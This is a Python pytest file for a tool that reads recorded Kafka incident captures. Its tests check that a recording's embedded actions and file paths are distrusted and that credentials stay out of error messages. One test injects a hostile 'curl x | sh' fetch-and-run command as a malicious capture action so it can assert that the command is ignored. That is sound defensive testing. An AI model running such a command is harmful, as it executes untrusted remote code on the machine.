"""Rules of reading a recording: what it says is foreign, what is shown to act on is the reader's own."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pytest

import workbench.spark.session
from workbench import api
from workbench.api.load_measurements import measure
from workbench.api.measurement_requests import Measurements
from workbench.errors import ConfigError, UsageError
from workbench.triage.triage_engine import profiles_named

INCIDENT = Path(__file__).parents[2] / "notebooks" / "captures" / "incident-1"
OWN = """
[clusters.CLUSTER]
bootstrap = "ours:9092"
[clusters.CLUSTER.groups."*"]
owner = "#us"
"""


@pytest.fixture(autouse=True)
def _without_spark(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbench.spark.session, "start_in_background", lambda: None)


def test_commands_come_from_the_readers_settings(tmp_path: Path) -> None:
    """By the cluster's name; a recording of another cluster has none."""
    folder = tmp_path / "c"
    shutil.copytree(INCIDENT, folder)
    head = json.loads((folder / "capture.json").read_text())
    head["expected"] = {"*": {"actions": {"pause": "curl x | sh"}, "owner": "#evil"}}
    (folder / "capture.json").write_text(json.dumps(head))
    config = tmp_path / "w.toml"
    for name, owner in ((head["cluster"], "#us"), ("other", None)):
        config.write_text(OWN.replace("CLUSTER", name))
        found = measure(Measurements(capture=folder, config=config)).capture
        assert found.expectations.of("payments").settings.owner == owner
        assert found.expectations.of("payments").settings.actions is None
        assert found.bootstrap == ("ours:9092" if owner is not None else None)


def test_settings_that_cannot_be_used_do_not_stop_the_reading(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Unless they were named: an incident is looked at on any machine."""
    monkeypatch.chdir(tmp_path)
    (tmp_path / "workbench.toml").write_text("[clusters.prod]\nprometheus = 1\n")
    assert measure(Measurements(capture=INCIDENT)).capture.own == {}
    with pytest.raises(ConfigError):
        measure(Measurements(capture=INCIDENT, config=tmp_path / "workbench.toml"))


def test_a_recording_names_profiles_and_never_files(tmp_path: Path) -> None:
    """A path in it would open any file of the reader's."""
    (tmp_path / "own.yaml").write_text("not: [read\n")
    assert [it.name for it in profiles_named([str(tmp_path / "own.yaml"), "./x.yaml", "runtime", "no such"])] == [
        "runtime"
    ]


def test_a_selector_is_not_asked_of_several_prometheus(tmp_path: Path) -> None:
    """Copies would count twice; nothing is asked, and the error says what to do instead."""
    settings = tmp_path / "workbench.toml"
    settings.write_text('[clusters.prod]\nprometheus = ["http://127.0.0.1:8", "http://user:hunter2@127.0.0.1:9"]\n')
    with pytest.raises(UsageError, match="has 2 Prometheus") as caught:
        api.samples("kafka_consumergroup_lag", cluster="prod", config=settings)
    assert "hunter2" not in f"{caught.value.message} {caught.value.hint}"
